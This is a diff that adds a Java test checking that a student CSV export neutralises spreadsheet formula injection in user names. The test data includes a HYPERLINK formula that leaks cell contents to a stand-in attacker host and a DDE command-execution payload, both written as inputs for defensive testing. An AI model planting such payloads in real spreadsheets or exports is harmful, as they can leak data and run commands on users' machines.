@@ -285,6 +285,26 @@ class LearningResourceTest {
     }
 
     @Test
+    void namesThatASpreadsheetWouldRunAsFormulasAreExportedAsText() {
+        List<String> names = List.of("=HYPERLINK(\"http://attacker.example/?leak=\"&C2,\"Open\")", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)");
+        for (String name : names) {
+            given().contentType("application/json")
+                    .body(Map.of("email", Accounts.uniqueEmail("formula"), "name", name, "password", Accounts.PASSWORD, "role", "student"))
+                    .when().post("/auth/register").then().statusCode(201);
+        }
+
+        String csv = given().auth().oauth2(token("teacher")).when().get("/export/students").then().statusCode(200).extract().asString();
+
+        // Each behind a single quote, and quoted where RFC 4180 wants it (quotes, commas). Registration trims names,
+        // so the tab and carriage return cases are SpreadsheetCellsTest's.
+        assertTrue(csv.contains("\r\n\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&C2,\"\"Open\"\")\",formula-"), csv);
+        assertTrue(csv.contains("\r\n'+1+cmd|' /C calc'!A0,formula-"), csv);
+        assertTrue(csv.contains("\r\n'-2+3,formula-"), csv);
+        assertTrue(csv.contains("\r\n'@SUM(1+1),formula-"), csv);
+    }
+
+    @Test
     void theLeaderboardTotalsFollowEveryChangeToProgress() {
         solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }, new int[] { 2, 1 }));
         solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }));
